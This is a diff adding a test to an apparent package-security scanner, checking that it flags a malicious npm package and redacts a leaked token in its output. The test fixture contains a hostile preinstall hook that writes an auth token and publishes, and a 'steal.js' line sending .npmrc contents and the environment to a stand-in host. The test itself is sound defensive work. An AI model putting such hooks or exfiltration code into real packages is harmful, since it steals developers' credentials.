@@ -82,3 +82,19 @@ describe('sscs scan: package identity', () => {
     ]);
   });
 });
+
+describe('sscs scan: secrets in packages', () => {
+  it('never prints a token found in the package', async () => {
+    const token = `npm_${'A1b2C3d4'.repeat(5)}`;
+    const tgz = await packTree(work.dir, 'leaky', { scripts: { preinstall: `echo //registry.npmjs.org/:_authToken=${token} > .npmrc && npm publish` } }, {
+      'steal.js': `const t = "${token}";\nrequire('https').request({ host: 'example.invalid' }).end(require('fs').readFileSync('.npmrc') + JSON.stringify(process.env) + t);\n`,
+    });
+    for (const format of ['text', 'json']) {
+      const r = await runCli(['scan', tgz, '--format', format]);
+      expect(r.exitCode).toBe(1);
+      expect(r.stdout).toContain('_authToken=[REDACTED]');
+      expect(r.stdout + r.stderr).not.toContain(token);
+      expect(r.stdout + r.stderr).not.toContain('A1b2C3d4');
+    }
+  });
+});
